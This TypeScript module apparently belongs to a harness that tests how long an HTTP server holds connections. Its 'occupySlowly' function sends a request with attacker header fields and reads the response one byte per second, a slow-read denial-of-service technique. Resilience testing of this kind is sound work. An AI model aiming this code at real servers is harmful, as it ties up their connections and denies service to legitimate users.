import { heldBy } from "./held-connections.ts";
import { type NarrowSocket, openNarrowSocket } from "./narrow-socket.ts";
import { attackerFields, type Occupation } from "./occupant.ts";

const EVERY_MS = 1000;

/** A response that is read by a byte a second. */
interface Reading {
  socket: NarrowSocket;
  end(): void;
}

const readings = new Set<Reading>();
let isReading = false;

/** Occupies a server with a response that is read by a byte a second. */
export const occupySlowly: Occupation = async ({ url, path }, number) => {
  const server = new URL(url);
  const socket = openNarrowSocket(server, `GET ${path} HTTP/1.1\r\n${attackerFields(number)}\r\n`);
  const sinceMs = performance.now();
  const ended = Promise.withResolvers<string>();
  let heldMs: number | undefined;
  const reading: Reading = {
    socket,
    end() {
      heldMs = performance.now() - sinceMs;
      readings.delete(reading);
      socket.close();
      ended.resolve("closed");
    },
  };
  readings.add(reading);
  // All in one go: a timer each would cost more than the reading.
  if (!isReading) setInterval(readAll, EVERY_MS, Number(server.port));
  isReading = true;
  return {
    get heldMs() {
      return heldMs ?? performance.now() - sinceMs;
    },
    ended: ended.promise,
  };
};

function readAll(serverPort: number): void {
  const held = heldBy(serverPort);
  for (const reading of [...readings])
    if (reading.socket.readByte() === "closed" || !held.has(reading.socket.port)) reading.end();
}
